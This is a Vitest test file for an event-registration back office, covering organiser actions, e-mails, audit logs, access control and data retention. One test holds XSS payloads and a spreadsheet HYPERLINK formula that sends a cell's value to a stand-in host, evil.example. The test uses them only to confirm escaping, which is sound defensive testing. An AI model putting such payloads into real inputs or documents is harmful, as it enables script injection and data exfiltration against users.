import { createElement } from "react";
import { describe, expect, it } from "vitest";
import { getEdition } from "~/features/editions/editions.server";
import { enqueueMail } from "~/features/mail/outbox.server";
import { deleteAccount } from "~/features/registration/personal-data.server";
import { submitWishes } from "~/features/registration/wishes.server";
import { signUp } from "~/features/registration/signups.server";
import {
  cancelRegistrationAsOrganiser,
  decideOnRegistration,
  promoteRegistration,
  register,
  updateRegistrationAsOrganiser,
} from "~/features/registration/registration.server";
import { translate } from "~/i18n/translate";
import { paths, translatePath } from "~/lib/paths";
import BackOfficeRegistration, { action, loader } from "~/routes/back-office-registration";
import { action as newAction } from "~/routes/back-office-registration-new";
import { databaseKinds, useTestDatabase } from "~/test/database";
import { createEdition, createPerson, createStaff, createWorkshop, personFields, registrationRequest, signedInOrganiser, staffSession } from "~/test/factories";
import { anonymiseExpired, retentionPlan } from "~/features/settings/retention.server";
import { renderOnPage } from "~/test/render";
import { settled } from "~/test/route-answers";
import { noteMaxLength } from "./person";
import { addNote, personPage, registerOnBehalf, resendConfirmation } from "./person.server";

const publicUrl = "http://localhost:3000";
const now = new Date("2026-05-01T10:00:00Z");
const noConsent = { photos: false, share_contact: false, newsletter: false, health_data: false };
const texts = { photos: "Photos", share_contact: "Contact", newsletter: "Newsletter", health_data: "Health" };

describe.each(databaseKinds)("a person's page on the registrations desk on %s", (kind) => {
  const database = useTestDatabase(kind, { demo: true });
  const db = () => database().db;

  const yearOf = async (editionId: number) => (await db().selectFrom("edition").where("id", "=", editionId).select("year").executeTakeFirstOrThrow()).year;

  /** A new edition, an organiser of it, and a person registered there writing in `language`. */
  async function setting(settings: { capacity?: number; approval?: boolean } = {}, language: "fr" | "en" = "en") {
    const editionId = await createEdition(db(), settings);
    const year = await yearOf(editionId);
    const organiser = await signedInOrganiser(db(), year, now);
    const registrant = async (lang: "fr" | "en" = language) => {
      const person = await createPerson(db(), { language: lang });
      const registration = await register(db(), registrationRequest(editionId, person));
      return { person, ...registration };
    };
    return { editionId, year, organiser, registrant };
  }

  const mailsTo = (personId: number) =>
    db().selectFrom("mail_outbox").where("person_id", "=", personId).select(["subject", "language", "status"]).orderBy("id").execute();
  const auditOf = (registrationId: number) =>
    db().selectFrom("audit_log").where("subject_type", "=", "registration").where("subject_id", "=", String(registrationId)).selectAll().orderBy("id").execute();
  const statusOf = async (registrationId: number) =>
    (await db().selectFrom("registration").where("id", "=", registrationId).select("status").executeTakeFirstOrThrow()).status;

  function routeArgs(year: number, registrationId: number | "new", options: { cookie: string; form?: Record<string, string | string[]>; search?: string }) {
    const path = registrationId === "new" ? paths.backOfficeNewRegistration("fr", year) : paths.backOfficeRegistration("fr", year, registrationId);
    let body: URLSearchParams | undefined;
    if (options.form) {
      body = new URLSearchParams();
      for (const [name, value] of Object.entries(options.form)) for (const one of [value].flat()) body.append(name, one);
    }
    const request = new Request(publicUrl + path + (options.search ?? ""), {
      method: body ? "POST" : "GET",
      headers: { Origin: publicUrl, Cookie: options.cookie },
      body,
    });
    return { request, params: { year: String(year), registrationId: String(registrationId) }, context: { db: db(), env: { PUBLIC_URL: publicUrl }, now: () => now } } as never;
  }

  it("has its pages in both languages, the language switch leading from one to the other", () => {
    expect(translatePath(paths.backOfficeRegistration("fr", 2026, 12), "en")).toBe("/en/2026/organisers/registrations/12");
    expect(translatePath(paths.backOfficeNewRegistration("en", 2026), "fr")).toBe("/fr/2026/organisation/inscriptions/nouvelle");
  });

  it("sets the person of each e-mail queued, whoever queues it, and that of an address signing in for the first time after its link was queued", async () => {
    const { registrant } = await setting();
    const { person } = await registrant();
    // The registration's statement writes its e-mail itself, not through enqueueMail.
    expect(await mailsTo(person.id)).toHaveLength(1);
    const mail = { language: "en" as const, subject: "Hello", text: "Hello", html: "<p>Hello</p>" };
    await enqueueMail(db(), { ...mail, to: person.email.toUpperCase() });
    const stranger = await enqueueMail(db(), { ...mail, to: "nobody.at.all@example.org" });
    expect(await mailsTo(person.id)).toHaveLength(2);
    expect((await db().selectFrom("mail_outbox").where("id", "=", stranger).select("person_id").executeTakeFirstOrThrow()).person_id).toBeNull();
    // Once that address signs in for the first time, its messages are the new person's.
    const newcomer = await createPerson(db(), { email: "nobody.at.all@example.org" });
    expect((await db().selectFrom("mail_outbox").where("id", "=", stranger).select("person_id").executeTakeFirstOrThrow()).person_id).toBe(newcomer.id);
  });

  it("shows identity, answers, consent history, seats and wishes, the delegation, every e-mail with its delivery, and notes", async () => {
    const edition = await getEdition(db(), 2026);
    const organiser = await signedInOrganiser(db(), 2026, now);
    const question = await db()
      .insertInto("registration_question")
      .values({ edition_id: edition.id, kind: "text", label: JSON.stringify({ fr: "Remarque", en: "Remark" }) })
      .returning("id")
      .executeTakeFirstOrThrow();
    const lead = await createPerson(db(), { language: "en" });
    const { id: leadRegistration } = await register(
      db(),
      registrationRequest(edition.id, lead, { answers: { [question.id]: "Vegetarian lunch" }, consents: { ...noConsent, photos: true }, now }),
    );
    const colleague = await createPerson(db());
    const { id: colleagueRegistration } = await register(db(), registrationRequest(edition.id, colleague, { now }));
    const { id: delegationId } = await db()
      .insertInto("delegation")
      .values({ edition_id: edition.id, lead_person_id: lead.id, organisation_name: "Ville de Lyon" })
      .returning("id")
      .executeTakeFirstOrThrow();
    await db().updateTable("registration").set({ delegation_id: delegationId }).where("id", "in", [leadRegistration, colleagueRegistration]).execute();
    // The participant later withdraws the photos consent: both decisions stay.
    await db()
      .insertInto("consent")
      .values({ registration_id: leadRegistration, kind: "photos", granted: false, text_shown: "Photos", language: "en", recorded_at: new Date("2026-05-02T10:00:00Z"), given_by_person_id: lead.id })
      .execute();
    const workshop = await createWorkshop(db(), { day: "2026-07-08", start: "09:00", end: "10:00", capacity: 5, title: "desk seat" });
    await signUp(db(), { registrationId: leadRegistration, personId: lead.id, sessionId: workshop, now, publicUrl });
    const { id: roundId } = await db()
      .insertInto("wish_round")
      .values({ edition_id: edition.id, opens_at: "2026-04-01T00:00:00Z", closes_at: "2026-06-01T00:00:00Z", seed: "desk" })
      .returning("id")
      .executeTakeFirstOrThrow();
    const wished = await createWorkshop(db(), { day: "2026-07-09", start: "11:00", end: "12:00", capacity: 2, title: "desk wish", wishRoundId: roundId });
    await submitWishes(db(), { registrationId: leadRegistration, personId: lead.id, roundId, sessionIds: [wished], now });
    await db().updateTable("mail_outbox").set({ status: "failed", attempts: 8, last_error: "550 mailbox unavailable" }).where("person_id", "=", lead.id).execute();
    await addNote(db(), organiser.access, { registrationId: leadRegistration, body: "Called about the lunch.", now });

    const page = await personPage(db(), organiser.access, leadRegistration);
    expect(page.registration).toMatchObject({ id: leadRegistration, email: lead.email, organisation_name: "Ville de Montpellier", personLanguage: "en" });
    expect(page.registration).not.toHaveProperty("search_text");
    // Registered by themselves: no one else is named.
    expect(page.registration.registered_by).toBe(lead.email);
    expect(page.answers).toEqual([expect.objectContaining({ questionId: question.id, value: "Vegetarian lunch", kind: "text", label: { fr: "Remarque", en: "Remark" } })]);
    expect(page.consents.filter((consent) => consent.kind === "photos").map((consent) => [consent.granted, consent.givenBy])).toEqual([
      [false, lead.email],
      [true, lead.email],
    ]);
    expect(page.workshops).toEqual([expect.objectContaining({ id: workshop, status: "confirmed", title: { fr: "Atelier desk seat", en: "Workshop desk seat" } })]);
    expect(page.wishes).toEqual([expect.objectContaining({ id: wished, rank: 1, roundId })]);
    expect(page.delegation).toMatchObject({
      organisation: "Ville de Lyon",
      lead: { id: leadRegistration },
      colleagues: [{ id: colleagueRegistration, given_name: "Camille" }],
    });
    expect(page.mails.length).toBeGreaterThanOrEqual(1);
    expect(page.mails.every((mail) => mail.status === "failed" && mail.attempts === 8 && mail.lastError === "550 mailbox unavailable")).toBe(true);
    expect(page.mails.map((mail) => mail.subject)).toContain(translate("en", "registration.mail.confirmed.subject", { year: 2026 }));
    expect(page.notes).toEqual([expect.objectContaining({ body: "Called about the lunch.", author: organiser.access.email, createdAt: now })]);

    // The colleague's page links to the lead's, and the page renders every part.
    const answer = (await loader(routeArgs(2026, colleagueRegistration, { cookie: organiser.cookie }))) as unknown as { data: unknown };
    const html = await renderOnPage(createElement(BackOfficeRegistration, { loaderData: answer.data } as never), "fr");
    expect(html).toMatch(new RegExp(`<a href="${paths.backOfficeRegistration("fr", 2026, leadRegistration)}"[^>]*>Camille ${page.registration.family_name}</a>`));
    const leadAnswer = (await loader(routeArgs(2026, leadRegistration, { cookie: organiser.cookie }))) as unknown as { data: unknown };
    const leadHtml = await renderOnPage(createElement(BackOfficeRegistration, { loaderData: leadAnswer.data } as never), "en");
    for (const text of ["Vegetarian lunch", "550 mailbox unavailable", "Called about the lunch.", "Workshop desk seat", "Ville de Lyon"]) expect(leadHtml).toContain(text);
  });

  it("keeps a participant's formula or markup inert: shown as typed, never as an element", async () => {
    const edition = await getEdition(db(), 2026);
    const organiser = await signedInOrganiser(db(), 2026, now);
    const question = await db()
      .insertInto("registration_question")
      .values({ edition_id: edition.id, kind: "text", label: JSON.stringify({ fr: "Commentaire", en: "Comment" }) })
      .returning("id")
      .executeTakeFirstOrThrow();
    const person = await createPerson(db());
    const formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
    const markup = "<img src=x onerror=alert(1)>";
    const { id } = await register(
      db(),
      registrationRequest(edition.id, person, { fields: personFields({ email: person.email, organisation_name: markup }), answers: { [question.id]: formula }, now }),
    );
    await addNote(db(), organiser.access, { registrationId: id, body: `<script>alert(2)</script> ${markup}`, now });
    const answer = (await loader(routeArgs(2026, id, { cookie: organiser.cookie }))) as unknown as { data: unknown };
    const html = await renderOnPage(createElement(BackOfficeRegistration, { loaderData: answer.data } as never), "fr");
    expect(html).not.toContain("<img");
    expect(html).not.toContain("<script>");
    expect(html).toContain("&lt;img src=x onerror=alert(1)&gt;");
    expect(html).toContain("&lt;script&gt;alert(2)&lt;/script&gt;");
    expect(html).toContain("=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1,&quot;Click&quot;)");
  });

  it("moves a waitlisted person up, beyond capacity, told by e-mail in their language, logged; twice is refused", async () => {
    const { organiser, registrant } = await setting({ capacity: 1 });
    const first = await registrant();
    const waiting = await registrant("en");
    expect([first.status, waiting.status]).toEqual(["confirmed", "waitlisted"]);
    expect(await promoteRegistration(db(), organiser.access, { registrationId: waiting.id, now, publicUrl })).toEqual({ beyondCapacity: true });
    expect(await statusOf(waiting.id)).toBe("confirmed");
    const mails = await mailsTo(waiting.person.id);
    expect(mails.at(-1)).toMatchObject({ language: "en", subject: translate("en", "registration.mail.promoted.subject", { year: organiser.edition.year }) });
    expect(await auditOf(waiting.id)).toMatchObject([
      { action: "registration.promote", actor_person_id: organiser.access.personId, edition_id: organiser.access.editionId, before: { status: "waitlisted" }, after: { status: "confirmed", beyondCapacity: true } },
    ]);
    await expect(promoteRegistration(db(), organiser.access, { registrationId: waiting.id, now, publicUrl })).rejects.toMatchObject({ code: "not_waitlisted" });
    expect(await mailsTo(waiting.person.id)).toHaveLength(mails.length);
  });

  it("cancels a registration: the person is told in French, the first waiting gets the place, both logged and e-mailed", async () => {
    const { organiser, registrant } = await setting({ capacity: 1 }, "fr");
    const first = await registrant("fr");
    const waiting = await registrant("en");
    const result = await cancelRegistrationAsOrganiser(db(), organiser.access, { registrationId: first.id, now, publicUrl });
    expect(result).toEqual({ promotedRegistrationId: waiting.id });
    expect([await statusOf(first.id), await statusOf(waiting.id)]).toEqual(["cancelled", "confirmed"]);
    expect((await mailsTo(first.person.id)).at(-1)).toMatchObject({ language: "fr", subject: translate("fr", "registration.mail.cancelled.subject", { year: organiser.edition.year }) });
    expect((await mailsTo(waiting.person.id)).at(-1)).toMatchObject({ language: "en", subject: translate("en", "registration.mail.promoted.subject", { year: organiser.edition.year }) });
    expect(await auditOf(first.id)).toMatchObject([{ action: "registration.cancel", before: { status: "confirmed" }, after: { status: "cancelled" } }]);
    await expect(cancelRegistrationAsOrganiser(db(), organiser.access, { registrationId: first.id, now, publicUrl })).rejects.toMatchObject({ code: "registration_cancelled" });
  });

  it("approves and refuses through the page, with the usual e-mails, logged, and says so after the redirect", async () => {
    const { year, organiser, registrant } = await setting({ approval: true });
    const approved = await registrant();
    const refused = await registrant("fr");
    expect(approved.status).toBe("pending");
    const post = (registrationId: number, intent: string) =>
      settled(action(routeArgs(year, registrationId, { cookie: organiser.cookie, form: { csrf: organiser.person.csrfToken, intent } })));
    expect(await post(approved.id, "approve")).toMatchObject({ status: 303, location: `${paths.backOfficeRegistration("fr", year, approved.id)}?done=approve` });
    expect(await post(refused.id, "refuse")).toMatchObject({ status: 303 });
    expect([await statusOf(approved.id), await statusOf(refused.id)]).toEqual(["confirmed", "cancelled"]);
    expect((await mailsTo(approved.person.id)).at(-1)).toMatchObject({ language: "en", subject: translate("en", "registration.mail.confirmed.subject", { year }) });
    expect((await mailsTo(refused.person.id)).at(-1)).toMatchObject({ language: "fr", subject: translate("fr", "registration.mail.cancelled.subject", { year }) });
    expect((await auditOf(refused.id)).map((entry) => entry.action)).toEqual(["registration.refuse"]);
    // Decided already: refused with its reason, nothing sent.
    const count = (await mailsTo(approved.person.id)).length;
    expect(await post(approved.id, "approve")).toMatchObject({ status: 409, body: { error: { code: "not_awaiting_approval" } } });
    expect(await post(approved.id, "promote")).toMatchObject({ status: 409, body: { error: { code: "not_waitlisted" } } });
    expect(await post(approved.id, "launch")).toMatchObject({ status: 400, body: { error: { code: "unknown_intent" } } });
    // Cancelling asks for the box ticked.
    expect(await post(approved.id, "cancel")).toMatchObject({ status: 422, body: { error: { code: "confirmation_required" } } });
    expect(await statusOf(approved.id)).toBe("confirmed");
    expect(
      await settled(action(routeArgs(year, approved.id, { cookie: organiser.cookie, form: { csrf: organiser.person.csrfToken, intent: "cancel", confirm: "yes" } }))),
    ).toMatchObject({ status: 303, location: `${paths.backOfficeRegistration("fr", year, approved.id)}?done=cancel` });
    expect(await statusOf(approved.id)).toBe("cancelled");
    expect(await mailsTo(approved.person.id)).toHaveLength(count + 1);
  });

  it("changes what the participant could, any category included; consents changed are recorded as given by the organiser; logged before and after", async () => {
    const { year, organiser, registrant, editionId } = await setting();
    const health = await db()
      .insertInto("registration_question")
      .values({ edition_id: editionId, kind: "text", label: JSON.stringify({ fr: "Allergies", en: "Allergies" }), health_data: true })
      .returning("id")
      .executeTakeFirstOrThrow();
    const { id, person } = await registrant();
    const before = await db().selectFrom("registration").where("id", "=", id).select(["email", "family_name"]).executeTakeFirstOrThrow();
    const form = {
      csrf: organiser.person.csrfToken,
      intent: "edit",
      given_name: "Camille",
      family_name: before.family_name,
      job_title: "Directrice",
      email: "someone.else@example.org",
      phone: "",
      organisation_type: "region",
      organisation_name: "Région Occitanie",
      city: "Toulouse",
      country_code: "FR",
      category: "speaker",
      consent_newsletter: "yes",
      consent_health_data: "yes",
      [`q${health.id}`]: "Peanuts",
    };
    const posted = await settled(action(routeArgs(year, id, { cookie: organiser.cookie, form })));
    expect(posted).toMatchObject({ status: 303, location: `${paths.backOfficeRegistration("fr", year, id)}?done=edit` });
    const after = await db().selectFrom("registration").where("id", "=", id).selectAll().executeTakeFirstOrThrow();
    // The e-mail is the person's sign-in address: the form does not change it.
    expect(after).toMatchObject({ email: person.email, organisation_name: "Région Occitanie", organisation_type: "region", city: "Toulouse", category: "speaker", job_title: "Directrice" });
    const consents = await db().selectFrom("consent").where("registration_id", "=", id).where("kind", "=", "newsletter").select(["granted", "given_by_person_id"]).orderBy("id").execute();
    expect(consents).toEqual([
      { granted: false, given_by_person_id: person.id },
      { granted: true, given_by_person_id: organiser.access.personId },
    ]);
    const [entry] = await auditOf(id);
    expect(entry).toMatchObject({
      action: "registration.update",
      before: { organisation_name: "Ville de Montpellier", category: "participant", consents: { newsletter: false } },
      after: { organisation_name: "Région Occitanie", category: "speaker", consents: { newsletter: true } },
    });
    // The log is kept for good: a health answer stays out of it.
    expect(JSON.stringify(entry)).not.toContain("Peanuts");
    // A refused form answers its fields' errors, with what was typed.
    const refused = await settled(action(routeArgs(year, id, { cookie: organiser.cookie, form: { ...form, organisation_name: "" } })));
    expect(refused).toMatchObject({ status: 422, body: { error: { code: "invalid_form" }, state: { errors: { organisation_name: "registration.error.required" }, values: { city: "Toulouse" } } } });
    await cancelRegistrationAsOrganiser(db(), organiser.access, { registrationId: id, now, publicUrl });
    expect(await settled(action(routeArgs(year, id, { cookie: organiser.cookie, form })))).toMatchObject({ status: 409, body: { error: { code: "registration_cancelled" } } });
  });

  it("shows the edit form filled with the stored registration", async () => {
    const { year, organiser, registrant } = await setting();
    const { id } = await registrant();
    const answer = await settled(loader(routeArgs(year, id, { cookie: organiser.cookie, search: "?edit" })));
    expect(answer).toMatchObject({ status: 200, body: { form: { state: { values: { organisation_name: "Ville de Montpellier", city: "Montpellier", consent_photos: "" } } } } });
  });

  it("resends the e-mail of the registration's state in the person's language, logged; none for a cancelled one", async () => {
    const { organiser, registrant } = await setting({ capacity: 1 });
    const confirmed = await registrant("en");
    const waiting = await registrant("fr");
    await resendConfirmation(db(), organiser.access, { registrationId: confirmed.id, now, publicUrl });
    await resendConfirmation(db(), organiser.access, { registrationId: waiting.id, now, publicUrl });
    const year = organiser.edition.year;
    expect((await mailsTo(confirmed.person.id)).map((mail) => mail.subject)).toEqual([
      translate("en", "registration.mail.confirmed.subject", { year }),
      translate("en", "registration.mail.confirmed.subject", { year }),
    ]);
    expect((await mailsTo(waiting.person.id)).at(-1)).toMatchObject({ language: "fr", subject: translate("fr", "registration.mail.waitlisted.subject", { year }) });
    expect(await auditOf(confirmed.id)).toMatchObject([{ action: "registration.resend", after: { status: "confirmed" } }]);
    await cancelRegistrationAsOrganiser(db(), organiser.access, { registrationId: waiting.id, now, publicUrl });
    await expect(resendConfirmation(db(), organiser.access, { registrationId: waiting.id, now, publicUrl })).rejects.toMatchObject({ code: "registration_cancelled" });
  });

  it("adds notes of 1 to 5,000 characters with their author and time, logged without their text", async () => {
    const { organiser, registrant } = await setting();
    const { id } = await registrant();
    for (const body of ["", "   ", "x".repeat(noteMaxLength + 1)]) {
      await expect(addNote(db(), organiser.access, { registrationId: id, body, now })).rejects.toMatchObject({ code: "note_invalid" });
    }
    const noteId = await addNote(db(), organiser.access, { registrationId: id, body: `  ${"y".repeat(noteMaxLength)}  `, now });
    const notes = await db().selectFrom("registration_note").where("registration_id", "=", id).selectAll().execute();
    expect(notes).toEqual([{ id: noteId, registration_id: id, author_person_id: organiser.access.personId, body: "y".repeat(noteMaxLength), created_at: now }]);
    expect(await auditOf(id)).toMatchObject([{ action: "registration.note", after: { noteId } }]);
    const posted = await settled(action(routeArgs(organiser.edition.year, id, { cookie: organiser.cookie, form: { csrf: organiser.person.csrfToken, intent: "note", note: "Through the page" } })));
    expect(posted).toMatchObject({ status: 303, location: `${paths.backOfficeRegistration("fr", organiser.edition.year, id)}?done=note#notes` });
    expect(await db().selectFrom("registration_note").where("registration_id", "=", id).select("body").orderBy("id").execute()).toEqual([
      { body: "y".repeat(noteMaxLength) },
      { body: "Through the page" },
    ]);
  });

  it("registers someone on their behalf, outside the window too: a new person in the language chosen, the usual e-mail, logged; twice is refused", async () => {
    const { year, organiser, editionId } = await setting({ capacity: 10 });
    const afterClose = new Date("2026-12-01T10:00:00Z");
    const fields = personFields({ email: "NEW.Person@Example.org".toLowerCase() });
    const request = { fields, answers: {}, consents: noConsent, consentTexts: texts, language: "fr" as const, mailLanguage: "en" as const, now: afterClose, publicUrl };
    const { id, status } = await registerOnBehalf(db(), organiser.access, request);
    expect(status).toBe("confirmed");
    const person = await db().selectFrom("person").where("email", "=", "new.person@example.org").selectAll().executeTakeFirstOrThrow();
    expect(person.language).toBe("en");
    const registration = await db().selectFrom("registration").where("id", "=", id).selectAll().executeTakeFirstOrThrow();
    expect(registration).toMatchObject({ edition_id: editionId, person_id: person.id, registered_by_person_id: organiser.access.personId });
    expect((await personPage(db(), organiser.access, id)).registration.registered_by).toBe(organiser.access.email);
    expect(await mailsTo(person.id)).toEqual([{ language: "en", status: "pending", subject: translate("en", "registration.mail.confirmed.subject", { year }) }]);
    expect(await auditOf(id)).toMatchObject([{ action: "registration.register_on_behalf", actor_person_id: organiser.access.personId, after: { status: "confirmed" } }]);
    await expect(registerOnBehalf(db(), organiser.access, request)).rejects.toMatchObject({ code: "already_registered" });
    // A person the site knows keeps their language, whatever the form says.
    const known = await createPerson(db(), { language: "fr" });
    await registerOnBehalf(db(), organiser.access, { ...request, fields: personFields({ email: known.email }) });
    expect((await mailsTo(known.id)).map((mail) => mail.language)).toEqual(["fr"]);
  });

  it("registers through the page and leads to the new person's page; a bad form answers its errors", async () => {
    const { year, organiser } = await setting();
    const email = `desk.new.${kind}@example.org`;
    const form = {
      csrf: organiser.person.csrfToken,
      given_name: "Aïcha",
      family_name: "Diallo",
      email,
      organisation_type: "foreign_local_authority",
      organisation_name: "Commune de Dakar",
      country_code: "SN",
      category: "participant",
      mail_language: "fr",
    };
    const refused = await settled(newAction(routeArgs(year, "new", { cookie: organiser.cookie, form: { ...form, mail_language: "de" } })));
    expect(refused).toMatchObject({ status: 422, body: { state: { errors: { mail_language: "registration.error.choose" } } } });
    const posted = await settled(newAction(routeArgs(year, "new", { cookie: organiser.cookie, form })));
    const registration = await db().selectFrom("registration").where("email", "=", email).select("id").executeTakeFirstOrThrow();
    expect(posted).toMatchObject({ status: 303, location: `${paths.backOfficeRegistration("fr", year, registration.id)}?done=registered` });
  });

  it("finds no registration of another edition, through any operation or the page, and changes nothing", async () => {
    const { organiser } = await setting();
    const other = await setting();
    const elsewhere = await other.registrant();
    const access = organiser.access;
    const id = elsewhere.id;
    const attempts: [string, () => Promise<unknown>][] = [
      ["page", () => personPage(db(), access, id)],
      ["note", () => addNote(db(), access, { registrationId: id, body: "x", now })],
      ["resend", () => resendConfirmation(db(), access, { registrationId: id, now, publicUrl })],
      ["promote", () => promoteRegistration(db(), access, { registrationId: id, now, publicUrl })],
      ["cancel", () => cancelRegistrationAsOrganiser(db(), access, { registrationId: id, now, publicUrl })],
      ["decide", () => decideOnRegistration(db(), access, { registrationId: id, approve: true, now, publicUrl })],
      [
        "update",
        () => updateRegistrationAsOrganiser(db(), access, { registrationId: id, fields: personFields(), answers: {}, consents: noConsent, consentTexts: texts, language: "fr", now }),
      ],
    ];
    for (const [name, attempt] of attempts) await expect(attempt().then(() => name), name).rejects.toMatchObject({ code: "registration_not_found" });
    for (const intent of ["approve", "promote", "cancel", "resend", "note", "edit"]) {
      const posted = await settled(action(routeArgs(organiser.edition.year, id, { cookie: organiser.cookie, form: { csrf: organiser.person.csrfToken, intent, note: "x", confirm: "yes" } })));
      expect([intent, posted.status]).toEqual([intent, 404]);
    }
    expect((await settled(loader(routeArgs(organiser.edition.year, id, { cookie: organiser.cookie })))).status).toBe(404);
    expect(await statusOf(id)).toBe("confirmed");
    expect(await auditOf(id)).toEqual([]);
    expect(await mailsTo(elsewhere.person.id)).toHaveLength(1);
    expect(await db().selectFrom("registration_note").where("registration_id", "=", id).select("id").execute()).toEqual([]);
  });

  it("is not found by partners, check-in staff and another edition's organiser, on every route and action", async () => {
    const { year, registrant } = await setting({ approval: true });
    const { id } = await registrant();
    const otherYear = await yearOf(await createEdition(db()));
    const intruders = [await createStaff(db(), "partner", year), await createStaff(db(), "checkin", year), await createStaff(db(), "organiser", otherYear)];
    for (const intruder of intruders) {
      const { cookie, csrf } = await staffSession(db(), intruder, now);
      expect((await settled(loader(routeArgs(year, id, { cookie })))).status).toBe(404);
      for (const intent of ["approve", "refuse", "promote", "cancel", "resend", "note", "edit"]) {
        expect((await settled(action(routeArgs(year, id, { cookie, form: { csrf, intent, note: "x", confirm: "yes" } })))).status).toBe(404);
      }
      expect((await settled(newAction(routeArgs(year, "new", { cookie, form: { csrf, email: "x@example.org" } })))).status).toBe(404);
    }
    expect(await statusOf(id)).toBe("pending");
    expect(await auditOf(id)).toEqual([]);
  });

  it("loses its notes when the person deletes their account", async () => {
    const { organiser, registrant } = await setting();
    const { id, person } = await registrant();
    await addNote(db(), organiser.access, { registrationId: id, body: "Prefers to be called in the morning.", now });
    await deleteAccount(db(), { personId: person.id, now, publicUrl });
    expect(await db().selectFrom("registration_note").where("registration_id", "=", id).select("id").execute()).toEqual([]);
  });

  // Last: it anonymises every registration of 2025 in this database.
  it("loses its notes with the registration's personal data when the edition's retention period ends", async () => {
    const { access } = await signedInOrganiser(db(), 2025, now, "owner");
    const edition = await getEdition(db(), 2025);
    const required = await db().selectFrom("registration_question").where("edition_id", "=", edition.id).where("required", "=", true).select("id").execute();
    const person = await createPerson(db());
    const { id } = await register(
      db(),
      registrationRequest(edition.id, person, { now: new Date("2025-05-01T10:00:00Z"), answers: Object.fromEntries(required.map((question) => [question.id, "yes"])) }),
    );
    await addNote(db(), access, { registrationId: id, body: "Knows the mayor personally.", now });
    const plan = await retentionPlan(db(), access);
    expect(plan.deleted).toContain("notes");
    await anonymiseExpired(db(), plan.anonymiseOn!);
    expect(await db().selectFrom("registration_note").where("registration_id", "=", id).select("id").execute()).toEqual([]);
    // Anonymised, the registration names nothing on the desk either.
    await expect(personPage(db(), access, id)).rejects.toMatchObject({ code: "registration_not_found" });
  });
});
